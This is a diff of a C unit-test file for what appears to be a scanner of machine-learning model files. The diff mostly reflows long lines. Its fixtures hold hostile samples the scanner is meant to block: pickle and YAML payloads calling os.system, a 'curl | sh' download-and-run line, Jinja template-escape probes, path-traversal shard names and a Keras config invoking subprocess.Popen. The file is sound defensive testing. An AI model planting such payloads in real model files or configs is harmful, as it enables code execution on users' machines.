@@ -18,14 +18,20 @@ static void safetensors(void **state) {
         const char *rule;
     } v[] = {
         {"{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}", 8, VERDICT_PASS, ""},
-        {"{\"__metadata__\":{\"format\":\"pt\"},\"a\":{\"dtype\":\"U8\",\"shape\":[],\"data_offsets\":[0,1]}}", 1, VERDICT_PASS, ""},
+        {"{\"__metadata__\":{\"format\":\"pt\"},\"a\":{\"dtype\":\"U8\",\"shape\":[],\"data_offsets\":[0,1]}}", 1,
+         VERDICT_PASS, ""},
         {"{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}", 9, VERDICT_BLOCK, "safetensors.trailing"},
         {"{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}", 7, VERDICT_BLOCK, "safetensors.tiling"},
-        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[0,4]},\"b\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[2,6]}}", 6, VERDICT_BLOCK, "safetensors.tiling"},
+        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[0,4]},\"b\":{\"dtype\":\"U8\",\"shape\":[4],\"data_"
+         "offsets\":[2,6]}}",
+         6, VERDICT_BLOCK, "safetensors.tiling"},
         {"{\"a\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[2,6]}}", 6, VERDICT_BLOCK, "safetensors.tiling"},
         {"{\"a\":{\"dtype\":\"F32\",\"shape\":[3],\"data_offsets\":[0,8]}}", 8, VERDICT_REVIEW, "safetensors.dtype"},
-        {"{\"a\":{\"dtype\":\"F32\",\"shape\":[4294967296,4294967296,4],\"data_offsets\":[0,8]}}", 8, VERDICT_REVIEW, "safetensors.dtype"},
-        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]},\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]}}", 1, VERDICT_BLOCK, ""},
+        {"{\"a\":{\"dtype\":\"F32\",\"shape\":[4294967296,4294967296,4],\"data_offsets\":[0,8]}}", 8, VERDICT_REVIEW,
+         "safetensors.dtype"},
+        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]},\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_"
+         "offsets\":[0,1]}}",
+         1, VERDICT_BLOCK, ""},
         {"{\"../../x\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]}}", 1, VERDICT_BLOCK, "safetensors.name"},
         {"{\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[1,0]}}", 1, VERDICT_BLOCK, "safetensors.tiling"},
         {"{\"a\":", 1, VERDICT_BLOCK, "safetensors.header"},
@@ -109,7 +115,10 @@ static void gguf(void **state) {
 static void templates(void **state) {
     (void)state;
     static const struct sample v[] = {
-        {"usual", BYTES("{% for m in messages %}{% if m['role'] == 'user' %}<|user|>{{ m.content | trim }}{% endif %}{% endfor %}"), "chat_template.jinja", VERDICT_PASS, ""},
+        {"usual",
+         BYTES("{% for m in messages %}{% if m['role'] == 'user' %}<|user|>{{ m.content | trim }}{% endif %}{% endfor "
+               "%}"),
+         "chat_template.jinja", VERDICT_PASS, ""},
         {"escapes", BYTES("{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}"), "t.jinja", VERDICT_BLOCK, "template.exec"},
         {"joined", BYTES("{{ x['__cla' ~ 'ss__'] }}"), "t.jinja", VERDICT_BLOCK, "template.exec"},
         {"closing mark inside a string", BYTES("{{ '}}' ~ x.__class__ }}"), "t.jinja", VERDICT_BLOCK, "template.exec"},
@@ -117,8 +126,10 @@ static void templates(void **state) {
         {"behind a comment", BYTES("{# {{ #}{{ x.__mro__ }}"), "t.jinja", VERDICT_BLOCK, "template.exec"},
         {"only in a comment", BYTES("{# x.__mro__ #}{% if a %}b{% endif %}"), "t.jinja", VERDICT_PASS, ""},
         {"only in text", BYTES("x.__mro__ {% if a %}b{% endif %}"), "t.jinja", VERDICT_PASS, ""},
-        {"depends on what people say", BYTES("{% if 'password' in m.content %}tell{% endif %}"), "t.jinja", VERDICT_REVIEW, "template.content"},
-        {"includes", BYTES("{% include 'other' %}{% if a %}{% endif %}"), "t.jinja", VERDICT_REVIEW, "template.include"},
+        {"depends on what people say", BYTES("{% if 'password' in m.content %}tell{% endif %}"), "t.jinja",
+         VERDICT_REVIEW, "template.content"},
+        {"includes", BYTES("{% include 'other' %}{% if a %}{% endif %}"), "t.jinja", VERDICT_REVIEW,
+         "template.include"},
         {"unclosed", BYTES("{{ x.__class__"), "t.jinja", VERDICT_BLOCK, "template.exec"},
     };
     samples_run(v, ARRAY_LEN(v));
@@ -128,20 +139,32 @@ static void configurations(void **state) {
     (void)state;
     static const struct sample v[] = {
         {"plain", BYTES("{\"model_type\":\"llama\"}"), "config.json", VERDICT_PASS, ""},
-        {"auto_map", BYTES("{\"auto_map\":{\"AutoModel\":\"modeling.X\"}}"), "anything", VERDICT_REVIEW, "config.auto_map"},
-        {"auto_map elsewhere", BYTES("{\"auto_map\":{\"AutoModel\":\"other/repo--modeling.X\"}}"), "config.json", VERDICT_REVIEW, "config.remote_code"},
-        {"template list", BYTES("{\"chat_template\":[{\"name\":\"a\",\"template\":\"{{ x.__class__ }}\"}]}"), "t.json", VERDICT_BLOCK, "template.exec"},
-        {"escaped key", BYTES("{\"chat\\u005ftemplate\":\"{{ x.__class__ }}\"}"), "t.json", VERDICT_BLOCK, "template.exec"},
-        {"second of two equal keys", BYTES("{\"chat_template\":\"x\",\"chat_template\":\"{{ x.__class__ }}\"}"), "t.json", VERDICT_BLOCK, "template.exec"},
-        {"keras lambda", BYTES("{\"class_name\":\"Lambda\",\"config\":{\"function\":\"x\"}}"), "config.json", VERDICT_BLOCK, "keras.exec"},
-        {"keras module", BYTES("{\"module\":\"subprocess\",\"class_name\":\"Popen\",\"config\":{}}"), "config.json", VERDICT_BLOCK, "keras.exec"},
-        {"keras own", BYTES("{\"module\":\"keras.layers\",\"class_name\":\"Dense\",\"config\":{}}"), "config.json", VERDICT_PASS, ""},
-        {"kernels hub", BYTES("{\"_attn_implementation_internal\":\"evil/kernel\"}"), "config.json", VERDICT_REVIEW, "config.remote_code"},
+        {"auto_map", BYTES("{\"auto_map\":{\"AutoModel\":\"modeling.X\"}}"), "anything", VERDICT_REVIEW,
+         "config.auto_map"},
+        {"auto_map elsewhere", BYTES("{\"auto_map\":{\"AutoModel\":\"other/repo--modeling.X\"}}"), "config.json",
+         VERDICT_REVIEW, "config.remote_code"},
+        {"template list", BYTES("{\"chat_template\":[{\"name\":\"a\",\"template\":\"{{ x.__class__ }}\"}]}"), "t.json",
+         VERDICT_BLOCK, "template.exec"},
+        {"escaped key", BYTES("{\"chat\\u005ftemplate\":\"{{ x.__class__ }}\"}"), "t.json", VERDICT_BLOCK,
+         "template.exec"},
+        {"second of two equal keys", BYTES("{\"chat_template\":\"x\",\"chat_template\":\"{{ x.__class__ }}\"}"),
+         "t.json", VERDICT_BLOCK, "template.exec"},
+        {"keras lambda", BYTES("{\"class_name\":\"Lambda\",\"config\":{\"function\":\"x\"}}"), "config.json",
+         VERDICT_BLOCK, "keras.exec"},
+        {"keras module", BYTES("{\"module\":\"subprocess\",\"class_name\":\"Popen\",\"config\":{}}"), "config.json",
+         VERDICT_BLOCK, "keras.exec"},
+        {"keras own", BYTES("{\"module\":\"keras.layers\",\"class_name\":\"Dense\",\"config\":{}}"), "config.json",
+         VERDICT_PASS, ""},
+        {"kernels hub", BYTES("{\"_attn_implementation_internal\":\"evil/kernel\"}"), "config.json", VERDICT_REVIEW,
+         "config.remote_code"},
         {"hydra target", BYTES("model:\n  _target_: os.system\n"), "conf.yaml", VERDICT_BLOCK, "config.target.exec"},
         {"python yaml", BYTES("a: !!python/object/apply:os.system [id]\n"), "conf.yaml", VERDICT_BLOCK, "yaml.python"},
-        {"shard outside", BYTES("{\"weight_map\":{\"a\":\"../../etc/passwd\"}}"), "model.safetensors.index.json", VERDICT_BLOCK, "archive.name"},
-        {"deep json", BYTES("[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1"), "a.json", VERDICT_NOTICE, "json.invalid"},
-        {"notebook magic", BYTES("{\"nbformat\":4,\"cells\":[{\"cell_type\":\"code\",\"source\":[\"!curl x\"]}]}"), "a.ipynb", VERDICT_REVIEW, "code.notebook"},
+        {"shard outside", BYTES("{\"weight_map\":{\"a\":\"../../etc/passwd\"}}"), "model.safetensors.index.json",
+         VERDICT_BLOCK, "archive.name"},
+        {"deep json", BYTES("[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1"),
+         "a.json", VERDICT_NOTICE, "json.invalid"},
+        {"notebook magic", BYTES("{\"nbformat\":4,\"cells\":[{\"cell_type\":\"code\",\"source\":[\"!curl x\"]}]}"),
+         "a.ipynb", VERDICT_REVIEW, "code.notebook"},
     };
     samples_run(v, ARRAY_LEN(v));
 }
@@ -152,17 +175,27 @@ static void texts_and_programs(void **state) {
         {"empty", "", 0, "x", VERDICT_PASS, ""},
         {"markdown", BYTES("# Title\n\nimport os is a line of prose\n"), "README.md", VERDICT_PASS, ""},
         {"python", BYTES("import os\nfrom x import y\nprint(1)\n"), "a.py", VERDICT_NOTICE, "code.python"},
-        {"python that starts programs", BYTES("import os\nimport sys\nos.system('x')\n"), "nameless", VERDICT_REVIEW, "code.signal"},
+        {"python that starts programs", BYTES("import os\nimport sys\nos.system('x')\n"), "nameless", VERDICT_REVIEW,
+         "code.signal"},
         {"download and run", BYTES("#!/bin/sh\ncurl http://x/y | sh\n"), "nameless", VERDICT_BLOCK, "code.shell.pipe"},
         {"token", BYTES("key = hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567\n"), "n.txt", VERDICT_NOTICE, "secret.token"},
         {"no token", BYTES("key = hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"), "n.txt", VERDICT_PASS, ""},
-        {"elf", BYTES("\x7f" "ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x3e\0"), "weights.bin", VERDICT_BLOCK, "executable"},
-        {"two chance bytes are no program", BYTES("MZ and some text behind it, long enough for a header of sixty-four bytes."), "n.txt", VERDICT_PASS, ""},
+        {"elf",
+         BYTES("\x7f"
+               "ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x3e\0"),
+         "weights.bin", VERDICT_BLOCK, "executable"},
+        {"two chance bytes are no program",
+         BYTES("MZ and some text behind it, long enough for a header of sixty-four bytes."), "n.txt", VERDICT_PASS, ""},
         {"noise", BYTES("\x01\x99\xfe\0\0\7"), "a.bin", VERDICT_REVIEW, "unknown.format"},
-        {"noise with a call in it", BYTES("\x01\x99\xfe\0\0\7" "cos\nsystem\n(S'id'\ntR."), "a.bin", VERDICT_BLOCK, "pickle.carved"},
-        {"pointer", BYTES("version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n"), "m.bin", VERDICT_REVIEW, "pointer"},
+        {"noise with a call in it",
+         BYTES("\x01\x99\xfe\0\0\7"
+               "cos\nsystem\n(S'id'\ntR."),
+         "a.bin", VERDICT_BLOCK, "pickle.carved"},
+        {"pointer", BYTES("version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n"), "m.bin",
+         VERDICT_REVIEW, "pointer"},
         {"7z", BYTES("7z\xbc\xaf\x27\x1c\0\4"), "a.7z", VERDICT_REVIEW, "archive.unexamined"},
-        {"xml with a library", BYTES("<net><layer library=\"../evil.so\"/></net>"), "n.xml", VERDICT_BLOCK, "xml.native"},
+        {"xml with a library", BYTES("<net><layer library=\"../evil.so\"/></net>"), "n.xml", VERDICT_BLOCK,
+         "xml.native"},
         {"svg", BYTES("<svg><script>x()</script></svg>"), "a.svg", VERDICT_REVIEW, "svg.script"},
     };
     samples_run(v, ARRAY_LEN(v));
@@ -181,10 +214,15 @@ static void arrays(void **state) {
     } v[] = {
         {"{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", "abcdefgh", 8, VERDICT_PASS, ""},
         {"{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", "abcdefg", 7, VERDICT_REVIEW, "numpy.size"},
-        {"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", BYTES("\x80\x03]Na."), VERDICT_NOTICE, "numpy.object"},
-        {"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", BYTES("\x80\x03" "cos\nsystem\nX\2\0\0\0id\x85R."), VERDICT_BLOCK, "pickle.call.evidence"},
+        {"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", BYTES("\x80\x03]Na."), VERDICT_NOTICE,
+         "numpy.object"},
+        {"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
+         BYTES("\x80\x03"
+               "cos\nsystem\nX\2\0\0\0id\x85R."),
+         VERDICT_BLOCK, "pickle.call.evidence"},
         {"__import__('os').system('id')", "", 0, VERDICT_REVIEW, "numpy.header"},
-        {"{'descr': '<f8', 'fortran_order': False, 'shape': (99999999999, 99999999999, 99999999999), }", "abcdefgh", 8, VERDICT_REVIEW, "numpy.header"},
+        {"{'descr': '<f8', 'fortran_order': False, 'shape': (99999999999, 99999999999, 99999999999), }", "abcdefgh", 8,
+         VERDICT_REVIEW, "numpy.header"},
     };
     for (size_t i = 0; i < ARRAY_LEN(v); i++) {
         buf_reset(&b);
@@ -200,7 +238,8 @@ static void arrays(void **state) {
 
 int main(void) {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(safetensors), cmocka_unit_test(gguf), cmocka_unit_test(templates), cmocka_unit_test(configurations),
+        cmocka_unit_test(safetensors),        cmocka_unit_test(gguf),
+        cmocka_unit_test(templates),          cmocka_unit_test(configurations),
         cmocka_unit_test(texts_and_programs), cmocka_unit_test(arrays),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
